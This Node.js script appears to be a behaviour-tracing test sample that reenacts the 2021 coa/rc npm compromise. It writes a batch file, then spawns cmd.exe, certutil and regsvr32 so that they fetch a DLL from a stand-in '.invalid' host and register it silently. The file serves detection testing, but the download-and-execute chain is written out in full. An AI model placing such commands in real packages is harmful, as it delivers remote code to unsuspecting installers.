// P8 in Node, like coa 2.0.3 / rc 1.2.9 (2021): write compile.bat, start it with cmd.exe; the batch
// file downloads a DLL with certutil and registers it with regsvr32. On Linux every program is
// missing and each spawn fails with ENOENT — but the attempts and their arguments are traced.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const dir = os.tmpdir();
const bat = path.join(dir, 'compile.bat');
fs.writeFileSync(bat, '@echo off\r\ncurl http://pastorcryptograph.invalid/sdd.dll -o %TEMP%\\sdd.dll\r\nregsvr32.exe -s %TEMP%\\sdd.dll\r\n');
fs.writeFileSync(path.join(dir, 'sdd.dll'), Buffer.from([0x4d, 0x5a, 0x90, 0x00]));
spawnSync('cmd.exe', ['/c', 'start', '/B', bat], { stdio: 'ignore' });
spawnSync('certutil.exe', ['-urlcache', '-f', 'http://pastorcryptograph.invalid/sdd.dll', path.join(dir, 'sdd.dll')], { stdio: 'ignore' });
spawnSync('regsvr32.exe', ['-s', path.join(dir, 'sdd.dll')], { stdio: 'ignore' });
